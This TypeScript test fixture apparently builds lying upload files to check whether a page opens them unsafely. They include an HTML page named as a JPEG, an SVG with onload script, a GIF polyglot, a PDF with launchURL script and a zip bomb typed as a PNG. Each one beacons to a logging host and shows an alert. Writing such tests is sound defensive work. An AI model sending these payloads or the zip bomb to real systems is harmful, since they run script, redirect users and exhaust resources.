import { crc32, deflateRawSync } from "node:zlib"
import { scriptPdf } from "./pdf.ts"
import { gifScript } from "./pictures.ts"

/** A file that is not what it says, and what tells that something in it ran. */
export type HarmfulFile = {
  /** As it is sent: name and type are the lie. */
  readonly name: string
  readonly type: string
  readonly bytes: Uint8Array<ArrayBuffer>
  /** As what a careless page would open it. */
  readonly careless: string
}

/**
 * What every one of them tries: to call another computer in three ways, to tell the page around it, to ask, to open a
 * window and to lead the page away. @param elsewhere a computer that writes down who calls
 */
export function harmOf(elsewhere: string): string {
  return [
    `new Image().src="${elsewhere}/harm-picture"`,
    `fetch("${elsewhere}/harm-fetch").catch(function(){})`,
    `try{top.postMessage("harm","*")}catch(e){}`,
    `try{open("${elsewhere}/harm-window")}catch(e){}`,
    `setTimeout(function(){location="${elsewhere}/harm-away"},300)`,
    `alert("harm")`,
  ].join(";")
}

/** Files that lie about what they are, each with a script that gives itself away when it runs. */
export function harmfulFiles(elsewhere: string): readonly HarmfulFile[] {
  const harm = harmOf(elsewhere)
  const page = `<!doctype html><title>x</title><base href="${elsewhere}/"><script>${harm}</script><img src="${elsewhere}/harm-img" onerror='${harm}'><meta http-equiv=refresh content="0;url=${elsewhere}/harm-refresh"><link rel=stylesheet href="${elsewhere}/harm-style">`
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload='${harm}'><script>${harm}</script><image href="${elsewhere}/harm-image"/></svg>`
  const short = `new Image().src="${elsewhere}/harm-gif";top.postMessage("harm","*")`
  return [
    { name: "photo.jpg", type: "image/jpeg", bytes: utf8(page), careless: "text/html" },
    { name: "drawing.svg", type: "image/svg+xml", bytes: utf8(drawing), careless: "image/svg+xml" },
    { name: "moving.gif", type: "image/gif", bytes: gifScript(short), careless: "text/javascript" },
    {
      name: "order.pdf",
      type: "application/pdf",
      bytes: scriptPdf(
        `app.alert\\("harm"\\);app.launchURL\\("${elsewhere}/harm-pdf"\\)`,
        `${elsewhere}/harm-link`,
      ),
      careless: "application/pdf",
    },
    { name: "notes.txt", type: "text/plain", bytes: utf16(page), careless: "text/html" },
    { name: "proof.zip", type: "image/png", bytes: zipBomb(64), careless: "application/zip" },
  ]
}

function utf8(text: string): Uint8Array<ArrayBuffer> {
  return new Uint8Array(Buffer.from(text))
}

function utf16(text: string): Uint8Array<ArrayBuffer> {
  return new Uint8Array(Buffer.from(`\ufeff${text}`, "utf16le"))
}

/** A folder of one file that unpacks to a thousand times its size. */
function zipBomb(megabytes: number): Uint8Array<ArrayBuffer> {
  const plain = Buffer.alloc(megabytes * 1_048_576)
  const packed = deflateRawSync(plain, { level: 9 })
  const name = Buffer.from("0.txt")
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt16LE(8, 4)
  common.writeUInt32LE(crc32(plain), 10)
  common.writeUInt32LE(packed.length, 14)
  common.writeUInt32LE(plain.length, 18)
  common.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, name, packed])
  const central = Buffer.concat([Buffer.from("PK\x01\x02"), Buffer.of(20, 0), common, Buffer.alloc(14), name])
  const end = Buffer.alloc(22)
  end.write("PK\x05\x06", "latin1")
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return new Uint8Array(Buffer.concat([local, central, end]))
}
